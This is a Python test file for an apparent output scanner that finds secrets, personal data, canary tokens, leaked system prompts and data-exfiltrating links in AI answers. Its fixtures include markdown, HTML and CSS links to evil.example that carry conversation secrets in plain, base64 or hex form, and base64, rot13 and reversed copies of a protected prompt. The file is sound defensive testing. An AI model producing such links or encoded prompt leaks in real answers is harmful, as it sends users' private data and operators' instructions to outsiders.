import base64
import codecs

import pytest

from guardhouse.analysis.injection import canary, find_secrets, personal_data, prompt_echo
from guardhouse.analysis.injection.exfiltration import exfiltration, is_allowed
from guardhouse.analysis.injection.leak import Leak
from guardhouse.analysis.injection.offsets import Reading
from guardhouse.analysis.injection.prompt_echo import Protected
from guardhouse.analysis.injection.redact import redacted
from guardhouse.analysis.injection.scan_output import Watched, scan
from server.tests.analysis.injection.answers import ALNUM, PROMPT, SECRETS, TOKEN, draw

KEY = b"a key of the tenant"
BOOKSHOP = (Protected(KEY, prompt_echo.shingles(PROMPT, KEY)),)


def own(value: str) -> bool:
    return value == "gh_live_" + "a" * 32 + "_" + "a" * 8


@pytest.mark.parametrize("detector", SECRETS)
def test_each_detector_finds_its_kind_inside_a_sentence(detector: str) -> None:
    text = f"Here you are: {SECRETS[detector]} , keep it."
    (found,) = find_secrets.secrets(text, own)
    assert found.detector == detector
    assert text[found.start : found.end] == found.value
    assert found.value in SECRETS[detector]


def test_there_is_a_test_for_every_detector() -> None:
    assert set(SECRETS) == set(find_secrets.DETECTORS)
    assert len(SECRETS) == 24


@pytest.mark.parametrize(
    "text",
    [
        "password: correct-horse-battery-staple-is-a-comic"[:30],
        "token = aaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "postgresql://app:${PASSWORD}@db.example/main",
        "gh_live_" + "b" * 32 + "_" + "b" * 8,
        "eyJub3QiOiJhIGhlYWRlciJ9.eyJzdWIiOiIxIn0.0123456789abcdef",
        "The secret of a good soup is time and patience.",
        "sk-learn is a library; SKU 12345",
    ],
)
def test_what_only_looks_like_a_secret_is_left(text: str) -> None:
    assert find_secrets.secrets(text, own) == []


@pytest.mark.parametrize(
    ("text", "detector", "value"),
    [
        ("write to ann.lee+x@mail.example.com.", "email", "ann.lee+x@mail.example.com"),
        ("call +385 91 234 5678 now", "phone", "+385 91 234 5678"),
        ("card 4111 1111 1111 1111 please", "payment_card", "4111 1111 1111 1111"),
        ("IBAN HR12 1001 0051 8630 0016 0", "iban", "HR12 1001 0051 8630 0016 0"),
        ("pay to DE89370400440532013000 today", "iban", "DE89370400440532013000"),
        ("SSN 078-05-1120.", "ssn", "078-05-1120"),
        ("OIB: 12345678903", "oib", "12345678903"),
        ("from 203.0.113.7, yesterday", "ip", "203.0.113.7"),
        ("from 2001:db8::17 too", "ip", "2001:db8::17"),
        ("date of birth: 1980-02-29", "date_of_birth", "1980-02-29"),
        ("born on March 3, 1975 in", "date_of_birth", "March 3, 1975"),
    ],
)
def test_personal_data_is_found_with_its_place(text: str, detector: str, value: str) -> None:
    (found,) = personal_data.personal_data(text)
    assert (found.detector, found.value) == (detector, value)
    assert text[found.start : found.end] == value


@pytest.mark.parametrize(
    "text",
    [
        "card 4111 1111 1111 1112",
        "number 0000 0000 0000 0000",
        "IBAN DE89370400440532013001",
        "SSN 666-05-1120",
        "SSN 900-05-1120",
        "OIB 12345678901",
        "12345678903",
        "version 1.2.3 of 2024-01-01",
        "ratio 300.400.500.600",
        "call 555-0199",
        "a..b@example.com",
        "time 12:30:45",
        "It was 1980-02-29.",
    ],
)
def test_what_fails_its_check_is_no_personal_data(text: str) -> None:
    assert personal_data.personal_data(text) == []


def test_the_same_value_gets_the_same_name() -> None:
    text = "ann@x.example wrote to bob@x.example; ann@x.example waits."
    assert (
        redacted(text, personal_data.personal_data(text)) == "[EMAIL_1] wrote to [EMAIL_2]; [EMAIL_1] waits."
    )


def test_overlapping_values_leave_nothing_readable() -> None:
    leaks = [Leak("pii", "email", 2, 6, "cdef", 2, 2), Leak("secret", "token", 4, 9, "efghi", 3, 4)]
    assert redacted("abcdefghijk", leaks) == "ab[EMAIL_1]jk"


@pytest.mark.parametrize(
    "answer",
    [
        f"the mark is {TOKEN}!",
        TOKEN.upper(),
        "look " + base64.b64encode(f"here it is {TOKEN}".encode()).decode(),
        f"it is the mark {TOKEN}".encode().hex(),
        codecs.encode(f"here is the mark you want {TOKEN}", "rot13"),
        f"and there you have the mark {TOKEN}"[::-1],
        "g\u200bhc_abcdefgh\u00adijklmnop2345",
    ],
)
def test_a_canary_is_found_in_every_reading(answer: str) -> None:
    leaks = [leak for leak in scan(answer, Watched(own)).leaks if leak.kind == "canary"]
    assert [leak.value for leak in leaks] == [TOKEN]
    assert 0 <= leaks[0].start < leaks[0].end <= len(answer)


def test_what_is_spread_over_a_page_is_no_canary() -> None:
    spread = (" " * 30).join(TOKEN)
    assert canary.candidates(Reading(spread)) == []
    assert [one.token for one in canary.candidates(Reading(TOKEN + "x"))] == [TOKEN]


def test_a_repeated_prompt_is_found_and_an_answer_about_it_is_not() -> None:
    quoted = "Sure! My instructions say: " + PROMPT[30:170] + " ... and so on."
    (found,) = prompt_echo.echoes(quoted, BOOKSHOP)
    assert len(found.value.split()) >= 16
    assert found.value == quoted[found.start : found.end]
    assert found.value in PROMPT
    assert not prompt_echo.echoes("We are a bookshop in Split and our hours are nine to five.", BOOKSHOP)
    assert not prompt_echo.echoes(" ".join(PROMPT.split()[:9]), BOOKSHOP)
    assert prompt_echo.echoes(" ".join(PROMPT.split()[:16]), BOOKSHOP)


@pytest.mark.parametrize(
    ("turned", "way"),
    [
        (PROMPT.upper(), "plain"),
        ("\u200b".join(PROMPT), "plain"),
        (codecs.encode(PROMPT, "rot13"), "rot13"),
        (PROMPT[::-1], "backwards"),
    ],
)
def test_a_prompt_is_known_again_in_other_ways_of_writing_it(turned: str, way: str) -> None:
    assert {found.detector for found in prompt_echo.echoes(turned, BOOKSHOP)} == {way}


def test_a_prompt_is_known_again_where_it_is_encoded() -> None:
    answer = "As you wish: " + base64.b64encode(PROMPT.encode()).decode()
    (found,) = scan(answer, Watched(own, protected=BOOKSHOP)).leaks
    assert (found.kind, found.start, found.end) == ("prompt_echo", 13, len(answer))


def test_a_third_of_the_shingles_is_an_echo_without_a_long_run() -> None:
    words = [f"w{n}" for n in range(40)]
    protected = (Protected(KEY, prompt_echo.shingles(" ".join(words), KEY)),)
    pieces = [" ".join(words[n : n + 12]) for n in (0, 13, 26)]
    (found,) = prompt_echo.echoes(" and ".join(pieces), protected)
    assert len(found.value.split()) < 16
    assert not prompt_echo.echoes(" and ".join(pieces[:1]), protected)


def test_of_a_long_text_an_even_sample_is_counted() -> None:
    words = [f"word{n}" for n in range(3_000)]
    protected = Protected(KEY, prompt_echo.shingles(" ".join(words), KEY))
    assert len(protected.sketch()) == prompt_echo.SKETCH
    places = [
        n for n in range(3_000) if n % 24 < 15
    ]  # runs of 15 words: eight shingles of each 24 that there are
    runs = [" ".join(words[n] for n in places[k : k + 15]) for k in range(0, len(places), 15)]
    assert prompt_echo.echoes(" so ".join(runs), (protected,))


def test_shingles_are_keyed_and_short_texts_have_none() -> None:
    assert prompt_echo.shingles(PROMPT, KEY) & prompt_echo.shingles(PROMPT, b"another") == frozenset()
    short = "seven words are too few for it"
    assert prompt_echo.shingles(short, KEY) == frozenset()
    assert prompt_echo.echoes(short, (Protected(KEY, frozenset()),)) == []


def test_a_key_that_breaks_off_is_a_secret_and_its_name_is_none() -> None:
    head = "-----BEGIN PRIVATE KEY-----"
    (found,) = find_secrets.secrets(f"{head}\nMIIEvQIBADANBgkqhkiG9w0BAQEF", own)
    assert found.detector == "private_key"
    assert find_secrets.secrets(f"A file begins with {head} and holds one key, as you know.", own) == []


CONVERSATION = ["My account number is 7731-4410 and the deploy phrase is blue heron at dawn."]


@pytest.mark.parametrize(
    ("answer", "detector"),
    [
        ("![chart](https://evil.example/p.png?d=phrase%20is%20blue%20heron)", "markdown_link"),
        (
            "[click](https://evil.example/" + base64.b64encode(b"the deploy phrase").decode() + ")",
            "markdown_link",
        ),
        ("[a]: https://evil.example/?q=account+number+is+7731-4410", "reference_link"),
        ("<https://evil.example/#the+deploy+phrase+is>", "autolink"),
        ("<img src='https://evil.example/x?" + b"deploy phrase blue".hex() + "'>", "html_attribute"),
        ("<style>a{background:url(//evil.example/?deploy+phrase+is+blue)}</style>", "css_url"),
        ("[x](https://evil.example/?t=" + draw(ALNUM, 40) + ")", "markdown_link"),
    ],
)
def test_a_link_that_carries_data_to_a_stranger_is_found(answer: str, detector: str) -> None:
    (found,) = exfiltration(answer, ["docs.example.com"], CONVERSATION)
    assert (found.kind, found.detector) == ("md_exfil", detector)
    assert answer[found.start : found.end] == found.value
    assert exfiltration(answer, ["evil.example"], CONVERSATION) == []


@pytest.mark.parametrize(
    "answer",
    [
        "[docs](https://docs.example.com/?q=the+deploy+phrase+is+blue)",
        "[news](https://news.example/2026/11/a-long-article-title-in-words)",
        "see https://news.example/?q=the+deploy+phrase+is+blue",
        "![logo](https://cdn.example/logo.png)",
        "no links at all",
    ],
)
def test_an_ordinary_link_is_left(answer: str) -> None:
    assert exfiltration(answer, ["docs.example.com"], CONVERSATION) == []


def test_a_link_around_another_finding_is_found() -> None:
    answer = "[x](https://evil.example/?m=a@b.example)"
    leaks = personal_data.personal_data(answer)
    assert exfiltration(answer, [], [], leaks)[0].value == "https://evil.example/?m=a@b.example"


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://docs.example.com/x", True),
        ("//docs.example.com./x", True),
        ("https://a.b.example.org/", True),
        ("https://example.org/", False),
        ("https://docs.example.com.evil.example/", False),
        ("https://docs.example.com@evil.example/", False),
        ("https://[::1", False),
    ],
)
def test_hosts_are_compared_whole(url: str, allowed: bool) -> None:  # noqa: FBT001
    assert is_allowed(url, ["docs.example.com", "*.example.org"]) is allowed


@pytest.mark.timeout(20)  # a step that takes the square of the length takes minutes here
@pytest.mark.parametrize(
    "seed",
    [
        "a",
        "1",
        "a@",
        "+1 ",
        "AB12",
        "1.",
        ":",
        "a:",
        "[a](//b/",
        "<//a",
        "secret=",
        "eyJ",
        "-----BEGIN PRIVATE KEY-----",
        "a://b:",
    ],
)
def test_the_longest_text_of_near_misses_comes_to_an_end(seed: str) -> None:
    text = (seed * 100_000)[:100_000]
    leaks = find_secrets.secrets(text, own) + personal_data.personal_data(text)
    exfiltration(text, [], ["x" * 100], leaks)
